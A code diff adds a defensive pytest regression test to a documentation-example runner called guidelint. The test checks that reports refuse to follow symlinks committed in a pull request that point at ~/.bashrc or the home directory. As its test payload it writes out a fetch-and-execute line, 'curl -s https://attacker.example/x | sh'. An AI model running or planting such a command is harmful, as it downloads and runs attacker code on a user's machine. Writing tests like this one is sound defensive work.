@@ -1492,6 +1492,35 @@ def test_the_pytest_plugin_runs_examples_behind_the_same_walls(tmp_path):
     )
 
 
+@pytest.mark.slow  # `guidelint run` in a subprocess
+def test_the_run_report_never_goes_through_a_committed_symlink(tmp_path):
+    """`guidelint run docs/ --format junit -o run.xml` (RUNNING.md's CI step) where the
+    pull request commits `run.xml -> ~/.bashrc` (or `reports/ -> ~`): the report,
+    holding what the example printed (a line of shell), replaced the file outside.
+    Now one error line, nothing written; a path outside named by the user is theirs."""
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / "bashrc").write_text("theirs\n")
+    project = tmp_path / "project"
+    (project / "docs").mkdir(parents=True)
+    (project / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
+    shell = "curl -s https://attacker.example/x | sh"
+    (project / "docs" / "guide.md").write_text(_fence(f"print({shell!r})"))
+    (project / "run.xml").symlink_to(home / "bashrc")
+    (project / "reports").symlink_to(home, target_is_directory=True)
+    for target in ("run.xml", "reports/run.xml"):
+        completed = _cli(project, "docs/", "--format", "junit", "-o", target)
+        last = completed.stderr.strip().splitlines()[-1]
+        assert completed.returncode == 2 and "Traceback" not in completed.stderr, last
+        assert last.startswith(f"guidelint: error: {target}: report not written: "), last
+        assert "outside the project" in last
+    assert sorted(p.name for p in home.iterdir()) == ["bashrc"]
+    assert (home / "bashrc").read_text() == "theirs\n"
+    elsewhere = tmp_path / "ci" / "run.xml"  # outside the project: the user's choice
+    assert _cli(project, "docs/", "--format", "junit", "-o", str(elsewhere)).returncode == 0
+    assert shell in elsewhere.read_text()
+
+
 def _pytest_examples(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
     return subprocess.run(
         [sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-rA"]
